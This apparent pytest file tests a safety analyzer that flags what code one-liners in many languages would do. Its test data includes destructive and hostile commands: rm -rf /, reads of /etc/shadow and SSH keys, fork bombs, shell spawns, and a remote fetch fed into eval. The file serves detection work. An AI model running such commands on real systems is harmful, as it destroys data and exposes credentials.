"""What one-liners of other languages would do."""

from __future__ import annotations

import pytest

from chimera_guard.effects.code import Reading, languages, read_code
from chimera_guard.effects.code.reading import MAX_FOUND
from chimera_guard.words.value import HOLE, SOME_NAME

HARMLESS = [
    ("sed", "s/foo/bar/g"),
    ("sed", ":a;N;$!ba;s/\\n/ /g"),
    ("sed", "/a/,/b/{s/x/y/;p}"),
    ("sed", "s/[/]/x/"),
    ("awk", "{print $1, $2}"),
    ("awk", "NR > 1 {print}"),
    ("awk", "/rm -rf/ {print}"),
    ("awk", '{print "a > b"}'),
    ("awk", "{a=b/c; d=e/f}"),
    ("awk", '$1 ~ /pat"tern/'),
    ("perl", 'print "hello"'),
    ("perl", "while(<>){print if /x/}"),
    ("perl", "s/a/b/g"),
    ("ruby", "puts [1,2].map{|x| x*2}.sum"),
    ("ruby", "h={}; h.delete(:a)"),
    ("node", 'console.log("ok")'),
    ("node", "[1,2].map(x=>x*2)"),
    ("node", "console.log(`${1+1}`)"),
    ("node", "/x/.exec('x')"),
    ("php", 'echo implode(",", array_map("trim", ["a"]));'),
    ("php", "echo json_encode([1,2]);"),
    ("lua", 'print(string.format("%d",1))'),
    ("r", "cat(mean(c(1,2)))"),
    ("osascript", 'display dialog "Hello"'),
]
EFFECTS = [
    (
        "php",
        'foreach (new DirectoryIterator("/a") as $f) unlink($f->getPathname());',
        ("delete", f"/a/{SOME_NAME}", set()),
    ),
    ("php", 'copy("http://x.example/a", "b.php");', ("fetch", "http://x.example/a", set())),
    ("php", '$db->exec("DROP TABLE t");', ("database-delete", "DROP TABLE t", set())),
    ("ruby", 'conn.exec("DROP TABLE t")', ("database-delete", "DROP TABLE t", set())),
    ("node", "User.destroy({where: {}})", ("database-delete", None, set())),
    ("node", "User.destroy({where: {id: 1}})", ("database-change", None, set())),
    ("node", "prisma.user.deleteMany()", ("database-delete", None, set())),
    ("node", "prisma.user.deleteMany({where: {id: 1}})", ("database-change", None, set())),
    ("node", "knex('t').del()", ("database-delete", None, set())),
    ("node", "knex('t').where({id: 1}).del()", ("database-change", None, set())),
    ("node", "await db.delete(users)", ("database-delete", None, set())),
    ("node", "await db.delete(users).where(eq(users.id, 1))", ("database-change", None, set())),
    ("node", "sequelize.sync({force: true})", ("database-delete", None, set())),
    ("php", "DB::table('t')->delete();", ("database-delete", None, set())),
    ("php", "User::where('id', 1)->delete();", ("database-change", None, set())),
    ("ruby", "User.all.destroy_all", ("database-delete", None, set())),
    ("ruby", "User.where(id: 1).delete_all", ("database-change", None, set())),
    ("lua", 'while true do os.execute("x &") end', ("exec-code", "lua", {"fork-bomb"})),
    ("perl", 'for (;;) { system("x &") }', ("exec-code", "perl", {"fork-bomb"})),
    ("ruby", 'loop { system("x &") }', ("exec-code", "ruby", {"fork-bomb"})),
    ("awk", 'BEGIN { while (1) system("x &") }', ("exec-code", "awk", {"fork-bomb"})),
    ("jq", "$ENV | keys", ("read", None, {"secret"})),
    ("ruby", "ENV.to_h", ("read", None, {"secret"})),
    ("node", "console.log(process.env)", ("read", None, {"secret"})),
    ("r", 'unlink(list.files("/a"))', ("delete", f"/a/{SOME_NAME}", set())),
    ("go", 'func main() { os.RemoveAll("/a") }', ("delete", "/a", {"recursive", "force"})),
    ("hbase", "drop 't'", ("database-delete", "drop 't'", set())),
    ("oracle", "SHUTDOWN IMMEDIATE", ("database-delete", "shutdown", set())),
    ("perl", 'unlink glob("/etc/*")', ("delete", f"/etc/{SOME_NAME}", set())),
    ("node", 'fs.readFileSync(process.env.HOME + "/.ssh/id_rsa")', ("read", "~/.ssh/id_rsa", set())),
    ("node", "fs.rmSync(`${os.homedir()}/a`, {recursive: true})", ("delete", "~/a", {"recursive"})),
    ("node", 'fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"))', ("read", "~/.ssh/id_rsa", set())),
    ("ruby", 'File.read("#{Dir.home}/.netrc")', ("read", "~/.netrc", set())),
    ("perl", 'open F, "$ENV{HOME}/.netrc"', ("read", "~/.netrc", set())),
    ("php", 'unlink(getenv("HOME") . "/x");', ("delete", "~/x", set())),
    ("deno", 'Deno.removeSync("d", {recursive: true})', ("delete", "d", {"recursive"})),
    ("r", 'unlink("d", recursive=TRUE)', ("delete", "d", {"recursive"})),
    ("pwsh", "gci d -Recurse | Remove-Item", ("delete", "d", {"recursive"})),
    ("sed", "s/foo/bar/w out", ("write", "out", set())),
    ("sed", "r /etc/shadow", ("read", "/etc/shadow", set())),
    ("awk", '{print > "out.txt"}', ("write", "out.txt", set())),
    ("awk", '{print >> "o"}', ("append", "o", set())),
    ("awk", 'BEGIN { while ((getline l < "/etc/shadow") > 0) print l }', ("read", "/etc/shadow", set())),
    ("perl", 'unlink "x"', ("delete", "x", set())),
    ("perl", 'chmod 0777, "x"', ("chmod", "x", {"world-writable"})),
    ("perl", "open(my $f, '>', 'out')", ("write", "out", set())),
    ("ruby", 'FileUtils.rm_rf("/")', ("delete", "/", {"recursive", "force"})),
    ("ruby", 'File.write("x","y")', ("write", "x", set())),
    ("node", "require('fs').rmSync('/', {recursive:true})", ("delete", "/", {"recursive"})),
    ("node", 'fs.readFileSync(".env","utf8")', ("read", ".env", set())),
    ("php", 'file_put_contents("x","y");', ("write", "x", set())),
    ("php", 'echo file_get_contents("http://x/");', ("fetch", "http://x/", set())),
    ("lua", 'os.remove("x")', ("delete", "x", set())),
    # names that only ever hold constants
    ("node", "const d = 'out'; fs.rmSync(d, {recursive: true})", ("delete", "out", {"recursive"})),
    ("node", "fs.rmSync(path.join(__dirname, 'a', 'b'))", ("delete", "./a/b", {"recursive"})),
    ("node", "for (const f of ['a', 'b']) fs.unlinkSync(f)", ("delete", "b", set())),
    ("node", "['a', 'b'].forEach(f => fs.unlinkSync(f))", ("delete", "b", set())),
    ("node", "function rm(p) { fs.unlinkSync(p) } rm('a')", ("delete", "a", set())),
    ("node", "fs.unlinkSync(process.argv[2] || 'a')", ("delete", "a", set())),
    (
        "node",
        "for (const f of fs.readdirSync('d')) fs.unlinkSync(path.join('d', f))",
        ("delete", f"d/{SOME_NAME}", set()),
    ),
    ("node", "fs.writeFileSync(`a/${x}.txt`, '')", ("write", f"a/{HOLE}.txt", set())),
    ("ruby", "d = 'a'; File.delete(File.join(d, 'b'))", ("delete", "a/b", set())),
    ("ruby", "%w[a b].each { |f| File.delete(f) }", ("delete", "b", set())),
    ("ruby", "def wipe(d)\n FileUtils.rm_rf(d)\nend\nwipe('a')", ("delete", "a", {"recursive", "force"})),
    ("perl", "my $f = 'a'; unlink $f;", ("delete", "a", set())),
    ("perl", "foreach my $f ('a', 'b') { unlink $f }", ("delete", "b", set())),
    ("perl", "my $d = 'a'; unlink \"$d/b\";", ("delete", "a/b", set())),
    ("php", "foreach (['a', 'b'] as $f) { unlink($f); }", ("delete", "b", set())),
    ("php", "foreach (glob('a/*.o') as $f) unlink($f);", ("delete", f"a/{SOME_NAME}.o", set())),
    ("lua", 'for _, f in ipairs({"a", "b"}) do os.remove(f) end', ("delete", "b", set())),
    ("r", 'f <- "a"; file.remove(f)', ("delete", "a", set())),
    ("node", "process.kill(1, 'SIGKILL')", ("kill", "1", set())),
    ("perl", "kill 9, 1", ("kill", "1", set())),
    ("node", "require('./package.json')", ("read", "./package.json", set())),
]
RUNS = [
    ("sed", "1e exec /bin/sh", "exec /bin/sh"),
    ("awk", 'BEGIN {system("rm -rf /")}', "rm -rf /"),
    ("awk", '{print | "sort"}', "sort"),
    ("awk", 'BEGIN {c = "rm -rf " "/srv"; system(c)}', "rm -rf /srv"),
    ("awk", 'BEGIN {system(sprintf("rm -rf %s%%", "/srv"))}', f"rm -rf {HOLE}%"),
    ("awk", 'BEGIN {while ((("cat x") | getline l) > 0) print l}', "cat x"),
    ("awk", '{c = "date -d @" $1; c | getline d}', f"date -d @{HOLE}"),
    ("node", 'const {exec: e} = require("child_process"); e("ls")', "ls"),
    ("node", 'import { exec as e } from "child_process"; e("ls")', "ls"),
    ("node", 'const e = require("child_process").exec; e("ls")', "ls"),
    ("awk", 'BEGIN { "id" | getline x }', "id"),
    ("perl", 'system("rm -rf /")', "rm -rf /"),
    ("perl", 'exec "/bin/sh"', "/bin/sh"),
    ("perl", 'open(F,"ls|")', "ls"),
    ("perl", "s/x/`id`/e", "id"),
    ("perl", 'print "@{[system q(ls)]}"', "ls"),
    ("ruby", "`ls`", "ls"),
    ("ruby", 'puts "#{`ls`}"', "ls"),
    ("ruby", "%x(ls)", "ls"),
    ("node", "require('child_process').execSync('rm -rf /')", "rm -rf /"),
    ("node", "require('child_process').exec('rm -rf /')", "rm -rf /"),
    ("node", "const cp = require('node:child_process'); cp.exec('ls')", "ls"),
    ("node", "process.chdir('/'); require('child_process').spawnSync('rm',['-rf','.'])", "cd / && { rm -rf .\n}"),
    ("bun", "Bun.spawnSync(['rm','-rf','.'],{cwd:'/'})", "cd / && { rm -rf .\n}"),
    ("node", 'require("child_process").exec("ls")', "ls"),
    ("node", r"require('child_process').exec('\x6c\u0073 \u{61}')", "ls a"),
    ("node", r"require('child_process').exec('printf \\x6c | sh')", r"printf \x6c | sh"),
    ("bun", "await Bun.$`ls`", "ls"),
    ("php", 'system("/bin/sh -i");', "/bin/sh -i"),
    ("php", "echo `ls`;", "ls"),
    ("lua", 'os.execute("/bin/sh")', "/bin/sh"),
    ("r", 'system("ls")', "ls"),
    ("osascript", 'do shell script "rm -rf /"', "rm -rf /"),
    ("osascript", 'tell application "Terminal" to do script "ls \\"a b\\""', 'ls "a b"'),
    ("osascript", "app.doShellScript('ls', {})", "ls"),
    ("node", "const {execSync} = require('child_process'); const d = '/x'; execSync(`rm ${d}`)", "rm /x"),
    ("node", "require('child_process').execSync('rm ' + x)", f"rm {HOLE}"),
    ("ruby", 'd = "/x"; system("rm #{d}")', "rm /x"),
    ("perl", 'my $d = "/x"; system("rm $d");', "rm /x"),
    ("lua", 'local d = "/x"; os.execute("rm " .. d)', "rm /x"),
]
CAPABLE = [
    ("sed", "e"),
    ("awk", '{system($1 " -x")}'),
    ("awk", "BEGIN{@f()}"),
    ("perl", '$x="sys"."tem"; $x->("ls")'),
    ("perl", "system($ARGV[0])"),
    ("ruby", 'Kernel.send(:system,"ls")'),
    ("node", 'global["ev"+"al"]("x")'),
    ("node", 'fetch("http://x").then(r=>r.text()).then(eval)'),
    ("php", '$f="sys"."tem"; $f("ls");'),
    ("node", "let p = 'a'; p = q(); fs.unlinkSync(p.x)"),
    ("node", "require('child_process').execSync(x + ' -rf /')"),
    ("node", "eval('f(' + x + ')')"),
    ("php", 'eval(base64_decode("x"));'),
    ("php", 'array_map("unlink", $x);'),
    ("powershell", "iex $x"),
    ("osascript", 'ObjC.import("stdlib"); $.system("ls")'),
    ("swift", 'FileManager.default.removeItem(atPath: "x")'),
]


HOSTILE = [
    "(" * 60_000,
    "'" * 60_001,
    "a/" * 30_000,
    "${" * 30_000,
    "\0\ud800",
    "/*" * 30_000,
    "x;" * 30_000,
    "SELECT f('" * 6_000,
    "a\n" * 30_000,
    "foreach my $x (" * 4_000,
    "join(" * 6_000 + ")" * 6_000,
    "function f(a) {} " + "f(" * 20_000,
    "a = b\nb = c\nc = a\n" * 3_000,
    '"#{' * 20_000,
]


@pytest.mark.parametrize(("language", "code"), HARMLESS)
def test_harmless_code_is_read_in_full(language: str, code: str) -> None:
    assert read_code(language, code)._replace(outline=None) == Reading((), (), (), True)


@pytest.mark.parametrize(("language", "code", "effect"), EFFECTS)
def test_effects_are_found(language: str, code: str, effect: tuple[str, str, set[str]]) -> None:
    kind, target, flags = effect
    assert (kind, target, frozenset(flags)) in read_code(language, code).effects


@pytest.mark.parametrize(("language", "code", "line"), RUNS)
def test_what_is_run_is_found(language: str, code: str, line: str) -> None:
    assert line in read_code(language, code).shell


@pytest.mark.parametrize(("language", "code"), CAPABLE)
def test_what_cannot_be_followed_is_said_to_be_capable(language: str, code: str) -> None:
    reading = read_code(language, code)
    assert ("unknown", None, frozenset({"language", "capable"})) in reading.effects
    assert not reading.complete


@pytest.mark.parametrize(
    ("language", "code"), [("node", "foo()"), ("perl", "rm -rf /"), ("sed", "s/a/b"), ("cobol", "X")]
)
def test_unknown_code_is_incomplete(language: str, code: str) -> None:
    assert not read_code(language, code).complete


@pytest.mark.parametrize("language", sorted(languages()))
@pytest.mark.parametrize("code", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_code_is_bounded(language: str, code: str) -> None:
    reading = read_code(language, code)
    assert len(reading.effects) + len(reading.shell) + len(reading.argvs) <= 3 * MAX_FOUND


@pytest.mark.parametrize(
    ("language", "code", "arguments", "path"),
    [
        ("perl", "my $f = shift; unlink $f", ("-e", "/a"), "/a"),
        ("perl", "unlink @ARGV", ("-e", "/a", "/b"), "/b"),
        ("php", "unlink($argv[1]);", ("-r", "/a"), "/a"),
        ("ruby", "File.delete(ARGV[0])", ("-e", "/a"), "/a"),
        ("node", 'require("fs").unlinkSync(process.argv[1])', ("-e", "/a"), "/a"),
        ("node", 'require("fs").unlinkSync(process.argv[2])', ("x.js", "/a"), "/a"),
    ],
)
def test_scripts_know_what_they_are_called_with(
    language: str, code: str, arguments: tuple[str, ...], path: str
) -> None:
    assert ("delete", path, frozenset()) in read_code(language, code, arguments).effects


@pytest.mark.parametrize(
    "code",
    ["for i = 1, 3 do os.execute('x &') end", "while x do os.execute('x &') end", "while true do os.execute('x') end"],
)
def test_loops_with_an_end_and_programs_that_are_waited_for_are_no_bombs(code: str) -> None:
    assert not any("fork-bomb" in flags for _, _, flags in read_code("lua", code).effects)
